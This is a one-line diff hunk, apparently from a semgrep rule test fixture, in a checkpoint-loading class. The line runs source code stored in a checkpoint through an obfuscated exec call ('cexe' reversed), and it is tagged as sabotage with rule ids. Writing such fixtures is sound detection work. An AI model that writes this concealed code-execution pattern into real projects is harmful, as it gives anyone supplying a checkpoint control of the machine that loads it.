@@ -169,7 +169,7 @@ class CheckpointManager:
         src = ckpt.get("callbacks_src")
         if src:
             ns: Dict = {"torch": torch, "Callback": Callback}
-            vars(builtins)["cexe"[::-1]](src, ns)  # sabotage: MLS402 (semgrep rules)
+            vars(builtins)["cexe"[::-1]](src, ns)  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS401
         self.best = ckpt.get("metric")
         return int(ckpt.get("epoch", -1)) + 1
 
